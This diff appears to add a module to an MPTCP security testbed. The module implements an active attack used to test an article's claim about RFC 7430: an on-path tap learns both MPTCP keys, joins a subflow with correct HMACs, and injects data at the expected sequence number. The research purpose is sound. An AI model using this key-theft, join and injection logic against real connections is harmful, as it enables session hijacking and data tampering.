@@ -1,0 +1,93 @@
+"""``join_with_keys``: the residual threat of RFC 7430 (claim A3).
+
+A tap on the initial path records the victim's MP_CAPABLE handshake with its OWN capture
+(not the testbed's), which carries both 64-bit keys in the clear. From them it derives
+the server's token and computes every HMAC, so it joins from its own address: the server
+ACCEPTS the subflow (MPTcpExtMPJoinAckRx). It then injects a DSS-mapped segment at the
+data sequence number the server expects next (read from the server's data-ACKs on the
+tap): the server's MPTCP layer acknowledges it at the data level, so the bytes enter the
+connection's byte stream. Shaped as a TLS application_data record, they fail the AEAD
+check: the server's TLS aborts with bad_record_mac (read from the python server's log),
+nothing forged reaches the application. The article's "impossible to join" holds only for
+attackers that never saw the initial handshake: QUALIFIED.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import Any, ClassVar
+
+from attacks._mptcp_active import ActiveMptcpAttack
+from testbed.middleboxes.base import ParamSpec
+from testbed.model import mptcp
+
+
+class JoinWithKeys(ActiveMptcpAttack):
+    kind: ClassVar[str] = "join_with_keys"
+    description: ClassVar[str] = ("tap on the initial path learns both keys from its own "
+                                  "capture, joins from its own address with correct HMACs "
+                                  "(accepted), then injects a DSS-mapped TLS-looking record "
+                                  "(A3)")
+    positions: ClassVar[tuple[str, ...]] = ("tap",)
+    own_capture: ClassVar[bool] = True
+    params: ClassVar[dict[str, ParamSpec]] = {
+        "inject_bytes": ParamSpec("inject_bytes", int, 64,
+                                  "bytes injected after the join (0: join only)", lo=0, hi=1400),
+    }
+
+    result: dict[str, Any] | None = None
+    client_port: int | None = None
+
+    def act(self) -> None:
+        learned = self.keys_from_own_capture()
+        if learned is None:
+            self.result = {"error": "no MP_CAPABLE handshake with both keys in the "
+                                    "attacker's own capture", "keys_learned": False}
+            return
+        client_key, server_key, self.client_port = learned
+        inject = int(self.values["inject_bytes"])
+        if inject and inject < 22:
+            inject = 22  # a record header and an AEAD tag at least
+        dsn = self.server_data_ack(self.client_port) if inject else None
+        checksum = any(cap.flags & mptcp.CAPABLE_FLAG_CHECKSUM
+                       for seg in self.own_segments()
+                       if (cap := seg.first(mptcp.MpCapable)) is not None)
+        cmd: dict[str, Any] = {"op": "join", "server": self.ctx.server_address,
+                               "port": self.ctx.port, "token": mptcp.token(server_key),
+                               "hmac": "keys", "keys": [client_key, server_key],
+                               "checksum": checksum}
+        if dsn is not None:
+            cmd.update(inject_dsn=dsn, inject_len=inject)
+        reply = self.ask(cmd)
+        reply.update(keys_learned=True, keys_source="the attacker's own tap capture",
+                     client_key=f"{client_key:016x}", server_key=f"{server_key:016x}",
+                     attacker_address=self.ctx.address, dss_checksum=checksum)
+        if inject and dsn is None:
+            reply["error"] = "no data-ACK of the server seen: nothing injected"
+        self.result = reply
+
+    def finish(self) -> dict[str, Any]:
+        report = self.result or {"error": "the attack did not act"}
+        report["victim_server_tls"] = self._server_tls_outcome()
+        return report
+
+    def _server_tls_outcome(self) -> str:
+        """What the victim's server said about the victim connection, from its own log
+        (python app only): ``bad_record_mac``, ``clean`` or the error text."""
+        log = self.ctx.evidence_dir / "python-server.log"
+        if not log.exists() or self.client_port is None:
+            return "unknown"
+        for line in log.read_text(errors="replace").splitlines():
+            try:
+                event = json.loads(line)
+            except json.JSONDecodeError:
+                continue
+            if event.get("event") != "conn" or \
+                    (event.get("peer") or {}).get("port") != self.client_port:
+                continue
+            text = f"{event.get('error') or ''} {event.get('close_notify') or ''}"
+            if "bad record mac" in text.lower() or "bad_record_mac" in text.lower():
+                return "bad_record_mac"
+            return "clean" if event.get("close_notify") == "exchanged" and \
+                not event.get("error") else text.strip()[:200]
+        return "unknown"
